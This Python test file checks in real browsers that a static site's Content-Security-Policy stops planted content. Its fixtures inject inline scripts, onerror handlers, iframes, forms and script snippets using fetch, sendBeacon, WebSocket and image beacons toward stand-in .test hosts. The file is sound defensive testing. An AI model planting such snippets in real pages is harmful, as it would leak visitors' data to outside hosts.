"""Each page's policy in real browsers: what was planted gets nowhere, what is ours is let in."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from publish.pages.on_disk import FILES_ONLY
from tests.browser.beacons import left, wait_for
from tests.browser.listener import Listener
from tests.browser.tab import Tab, in_both_engines, in_every_engine
from tests.browser.test_offline import pages_of, walk

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
IN_THE_PAGE = """
<script>fetch("http://inline.test/")</script>
<img src="nothing.png" alt="" onerror="fetch('http://onerror.test/')">
<img src="http://image.test/" alt="">
<img src="https://safe-image.test/" alt="">
<script src="http://script.test/"></script>
<script src="https://safe-script.test/"></script>
<link rel="stylesheet" href="http://sheet.test/">
<style>@import "http://import.test/"; h1 { background: url(http://background.test/) }</style>
<p style="background: url(http://attribute.test/)">x</p>
<iframe src="http://frame.test/"></iframe>
<object data="http://object.test/"></object>
<video src="http://video.test/"></video>
<form id="post" method="post" action="http://form.test/"></form>
<script src="planted.js"></script>
"""
"""What somebody who can change the page alone may put into it."""

WAYS_OF_A_SCRIPT = (
    'fetch("http://fetch.test/")',
    'navigator.sendBeacon("http://beacon.test/", "x")',
    'new WebSocket("ws://socket.test/")',
    'new EventSource("http://events.test/")',
    'new Image().src = "http://made.test/"',
    'new Image().src = "https://safe-made.test/"',
    'document.body.append(Object.assign(document.createElement("iframe"),'
    ' {src: "http://made-frame.test/"}))',
    """setTimeout("fetch('http://evaluated.test/')", 0)""",
    'addEventListener("load", function () { setTimeout(function () {'
    ' fetch("http://late.test/").catch(function () {}).then(function () {'
    " window.tried = 1; }) }, 50) })",
    'addEventListener("leave", function () { document.getElementById("post").submit(); })',
)
"""What a script file may do that is the site's own and was changed; the policy lets it run."""
IN_A_SCRIPT = "".join(f"try {{ {way}; }} catch (refused) {{}}\n" for way in WAYS_OF_A_SCRIPT)
"""All of it: some browsers refuse with an exception, and the next way is tried all the same."""

LEAVE = "dispatchEvent(new Event('leave'))"
"""Has the planted script send its form, which leads away and cuts short what is still loading."""

HOSTS = sorted(set(re.findall(r"[a-z-]+\.test", IN_THE_PAGE + IN_A_SCRIPT)))


def plant(file: Path, folder: Path) -> Path:
    """Copy a page, with its policy, and put the above into it."""
    page = file.read_text(encoding="utf-8")
    assert len(POLICY.findall(page)) == 1
    (folder / "planted.js").write_text(IN_A_SCRIPT, encoding="utf-8")
    path = folder / "page.html"
    path.write_text(page.replace("</body>", f"{IN_THE_PAGE}</body>"), encoding="utf-8")
    return path


@in_every_engine
@pytest.mark.parametrize("kind", ["hosted", "clinic's server", "file", "one file"])
def test_nothing_planted_reaches_anybody(
    kind: str,
    hosted_site: Path,
    offline_site: Path,
    single_file: Path,
    tmp_path: Path,
    tab: Tab,
    outside: Listener,
    serve: Callable[[Path], Listener],
) -> None:
    page = (hosted_site if kind == "hosted" else offline_site) / "index.html"
    planted = plant(single_file if kind == "one file" else page, tmp_path)
    on_disk = kind.endswith("file")
    tab.open(planted.as_uri() if on_disk else f"{serve(tmp_path).address}/{planted.name}")
    if kind != "one file":  # which has no script file that somebody could have changed
        tab.wait_for("window.tried")
    tab.evaluate(LEAVE)
    tab.settle()
    assert any("policy: " in error for error in tab.errors)
    assert left(tab.open, outside) == []


@in_every_engine
def test_without_the_policy_all_of_it_would(
    offline_site: Path, tmp_path: Path, tab: Tab, outside: Listener
) -> None:
    # The proof that the test above means something.
    planted = plant(offline_site / "index.html", tmp_path)
    page = planted.read_text(encoding="utf-8")
    planted.write_text(POLICY.sub("", page).replace(FILES_ONLY, ""), encoding="utf-8")
    tab.open(planted.as_uri())
    wait_for([host for host in HOSTS if host != "form.test"], outside)
    tab.evaluate(LEAVE)
    wait_for(["form.test"], outside)


def test_every_page_of_both_builds_carries_one(hosted_site: Path, offline_site: Path) -> None:
    for folder in (hosted_site, offline_site):
        for file in pages_of(folder):
            found = POLICY.findall(file.read_text(encoding="utf-8"))
            assert len(found) == 1, file
            assert "unsafe" not in found[0], file
            assert "default-src 'none'" in found[0], file


@in_both_engines
def test_a_clinics_own_server_shows_the_copy_whole(
    tab: Tab, offline_site: Path, serve: Callable[[Path], Listener]
) -> None:
    # From a disk and hosted, every page is opened in test_offline, and a refusal is an error there.
    server = serve(offline_site)
    names = [
        "index.html",
        "quiz.html",
        "leg-map.html",
        "quiz-rules.html",
        "causes/tight-shoes.html",
    ]
    problems = walk(tab, (f"{server.address}/{name}" for name in names))
    own = f"asked for {server.address}/"
    assert [line for found in problems.values() for line in found if not line.startswith(own)] == []
